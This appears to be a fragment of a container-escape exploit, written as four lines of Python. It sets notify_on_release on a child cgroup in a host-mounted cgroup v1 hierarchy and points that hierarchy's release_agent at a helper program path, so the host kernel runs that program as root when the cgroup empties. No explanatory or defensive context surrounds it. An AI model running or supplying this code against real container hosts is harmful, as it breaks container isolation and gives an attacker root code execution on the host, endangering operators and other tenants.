with open("/host/sys/fs/cgroup/rdma/child/notify_on_release", "w") as f:
    f.write("1\n")
with open("/host/sys/fs/cgroup/rdma/release_agent", "w") as f:
    f.write("/var/lib/helper/cmd\n")
